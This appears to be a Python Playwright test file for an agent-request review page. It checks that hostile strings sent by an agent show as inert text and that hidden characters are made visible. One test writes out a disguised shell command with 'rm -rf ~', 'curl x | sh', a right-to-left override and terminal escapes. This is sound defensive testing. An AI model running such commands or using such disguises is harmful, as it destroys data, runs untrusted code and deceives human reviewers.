"""Whatever an agent writes is shown as text, and what would not be seen is spelled out."""

import json
from collections.abc import Generator, Sequence
from typing import Any

import pytest
from playwright.sync_api import Browser, Locator, expect

from tests.support.inbox import INBOX
from tests.support.people import People
from tests.support.server import ServerProcess
from tests.web.hostile import Shown, is_hidden, shown_in, spaced, strings
from tests.web.person import Person
from tests.web.reviewing import Review, come

pytestmark = pytest.mark.promise("P17")

COUNT = 10_000
BATCH = 1_250
SOME = 60
PLAIN = {"div", "span", "p", "dl", "dt", "dd", "code", "b", "li", "ul", "ol"}
"""The elements that a text is laid out with: none of them does anything."""
HARMLESS = {"class", "title", "style", "id", "data-lines", "aria-hidden"}

HOSTILE = strings(COUNT)


@pytest.fixture(scope="module")
def desk(browser: Browser, server: ServerProcess, people: People) -> Generator[Person]:
    """Without a clock that tests put forward: on pages as large as these it would fall behind for good."""
    person = Person(browser, server.url, people.named("reviewer-of-hostile-texts"), {})
    yield person
    person.leave()


def post(reviewer: Person, kind: str, data: dict[str, Any]) -> str:
    """Halves of characters are sent as JSON spells them."""
    body = json.dumps({"type": kind, "request_data": data}, ensure_ascii=False).encode("utf-8", "backslashreplace")
    headers = {"content-type": "application/json"}
    made = reviewer.client.http.post("/api/v1/agent/hitl/requests", content=body, headers=headers)
    return made.raise_for_status().json()["data"]["request_id"]


def ask(reviewer: Person, kind: str, data: dict[str, Any]) -> Review:
    request_id = post(reviewer, kind, data)
    review = Review(reviewer, reviewer.turns_to(f"/requests/{request_id}"), request_id)
    review.page.on("dialog", lambda dialog: reviewer.complaints.append(dialog.message))
    return come(review)


def is_only_text(shown: Shown) -> None:
    assert shown.elements <= PLAIN
    assert shown.attributes <= HARMLESS
    assert [f"U+{ord(one):04X}" for one in shown.characters if is_hidden(one)] == []


def say(places: Locator, texts: Sequence[str], *, on_one_line: bool = False) -> None:
    """Each place holds its text, read back from what stands there, and nothing else."""
    expect(places).to_have_count(len(texts))
    shown = shown_in(places)
    is_only_text(shown)
    if on_one_line:
        assert ["\n".join(lines) for lines in shown.texts] == [spaced([text])[0] for text in texts]
    else:
        assert shown.texts == [spaced(text.split("\n")) for text in texts]


@pytest.mark.parametrize("start", range(0, COUNT, BATCH))
def test_arguments_are_shown_as_they_are(reviewer: Person, start: int) -> None:
    args = {f"a{number:05}": text for number, text in enumerate(HOSTILE[start : start + BATCH], start)}
    review = ask(reviewer, "permission", {"tool_name": "t", "args": args})
    review.shown.get_by_text(f"{BATCH:,} arguments").wait_for()
    shown = shown_in(review.shown.locator("dd"))
    is_only_text(shown)
    assert shown.texts == [
        spaced(text.split("\n") if "\n" in text else [json.dumps(text, ensure_ascii=False)]) for text in args.values()
    ]
    review.press("v")
    review.shown.locator("[aria-pressed=true]", has_text="JSON").wait_for()
    spelled = json.dumps(args, ensure_ascii=False, indent=2).split("\n")
    whole = shown_in(review.shown.locator("[data-lines]"))
    is_only_text(whole)
    assert [line for lines in whole.texts for line in lines] == spaced(spelled)
    review.is_open()


def test_names_of_arguments_are_shown_as_they_are(reviewer: Person) -> None:
    names = sorted(HOSTILE[:500])
    review = ask(reviewer, "permission", {"tool_name": "t", "args": dict.fromkeys(names, 1)})
    say(review.shown.locator("dt"), names, on_one_line=True)


def test_a_command_is_shown_as_it_is(reviewer: Person) -> None:
    command = "\n".join(HOSTILE[:500])
    review = ask(reviewer, "permission", {"tool_name": "shell", "args": {"command": command}})
    shown = shown_in(review.shown.locator("[data-lines]"))
    is_only_text(shown)
    lines = [line for block in shown.texts for line in block]
    assert lines == spaced(f"$ {command}".split("\n"))


def test_what_would_not_be_seen_is_spelled_out(reviewer: Person) -> None:
    command = (
        "echo \u202egnp.exe\u200b\x1b[8m; rm -rf ~\U000e0041\u00a0|" + " " * 45 + "sh" + "\n" * 41 + "curl x | sh\r"
    )
    review = ask(reviewer, "permission", {"tool_name": "shell", "args": {"command": command}})
    for chip in ("‹U+202E RLO›", "‹U+200B ZWSP›", "‹U+001B ESC›", "‹U+E0041 TAG A›", "‹U+00A0 NBSP›", "‹U+000D CR›"):
        expect(review.shown.get_by_text(chip, exact=True)).to_be_visible()
    expect(review.shown.get_by_text("‹45 blanks›", exact=True)).to_be_visible()
    expect(review.shown.get_by_text("‹40 blank lines›", exact=True)).to_be_visible()
    expect(review.shown).to_contain_text("6 hidden characters shown")


def test_what_the_agent_says_stays_plain_text(reviewer: Person) -> None:
    words, tool = "\n".join(HOSTILE[500:1_000]), HOSTILE[7]
    review = ask(reviewer, "permission", {"tool_name": tool, "args": {}, "description": words})
    said = shown_in(review.words.locator("> span > span"))
    is_only_text(said)
    assert [line for row in said.texts for line in row] == spaced(words.split("\n"))
    say(review.page.locator("h1 > code"), [tool], on_one_line=True)


def test_questions_and_their_options_are_shown_as_they_are(reviewer: Person) -> None:
    question, *options = HOSTILE[1_000 : 1_000 + SOME]
    review = ask(reviewer, "clarification", {"question": question, "options": options, "default_answer": options[0]})
    labels = review.page.locator("fieldset label").filter(has_not_text="In my own words")
    say(labels.locator("> span:last-child > span"), options, on_one_line=True)
    is_only_text(shown_in(review.words.locator("> span")))
    default = review.page.get_by_text("this is used:").locator("span").first
    say(default, [options[0]], on_one_line=True)


def test_decisions_are_shown_as_they_are(reviewer: Person) -> None:
    title, description, *rest = HOSTILE[2_000 : 2_000 + SOME]
    keys, labels, risks = rest[:15], rest[15:30], rest[30:45]
    options = [{"key": key, "label": label} for key, label in zip(keys, labels, strict=True)]
    asked = {"title": title, "description": description, "options": options, "risks": risks}
    review = ask(reviewer, "decision", asked)
    is_only_text(shown_in(review.words.locator("> span")))
    say(review.page.locator("main").locator("ul:not([aria-label]) > li > span"), risks, on_one_line=True)
    say(review.page.locator("fieldset label > span:last-child").locator("> span, > code"), labels, on_one_line=True)


def test_several_questions_are_shown_as_they_are(reviewer: Person) -> None:
    texts, options = HOSTILE[3_000 : 3_000 + SOME], HOSTILE[4_000 : 4_000 + SOME]
    questions = [{"question": text, "options": [option]} for text, option in zip(texts, options, strict=True)]
    review = ask(reviewer, "clarification", {"questions": questions})
    asked = shown_in(review.page.locator("ol > li > div"))
    is_only_text(asked)
    expect(review.page.get_by_role("radio")).to_have_count(SOME)
    say(review.page.locator("fieldset label > span:last-child > span"), options, on_one_line=True)


def test_wanted_values_are_shown_as_they_are(reviewer: Person) -> None:
    names, labels, notes = (HOSTILE[5_000 + SOME * part : 5_000 + SOME * (part + 1)] for part in range(3))
    fields = [
        {"name": name, "label": label, "description": note}
        for name, label, note in zip(names, labels, notes, strict=True)
    ]
    review = ask(reviewer, "env_var", {"fields": fields})
    say(review.page.locator("main").locator("label > code"), names, on_one_line=True)
    spoken = [text for pair in zip(labels, notes, strict=True) for text in pair]
    say(review.page.locator("main").locator("label:has(> code) ~ span"), spoken, on_one_line=True)


def test_the_list_shows_every_headline_as_it_is(reviewer: Person) -> None:
    made = {post(reviewer, "permission", {"tool_name": "t", "args": {"a": text}}) for text in HOSTILE[6_000:6_040]}
    made |= {post(reviewer, "clarification", {"question": text}) for text in HOSTILE[6_040:6_080]}
    listed = reviewer.client.http.get(INBOX, params={"limit": 200}).json()["requests"]
    headlines = {entry["request_id"]: entry["headline"] for entry in listed if entry["request_id"] in made}
    assert len(headlines) == 80
    page = reviewer.opens("/inbox")
    for request_id, headline in headlines.items():
        say(page.locator(f"#headline-{request_id}"), [headline], on_one_line=True)
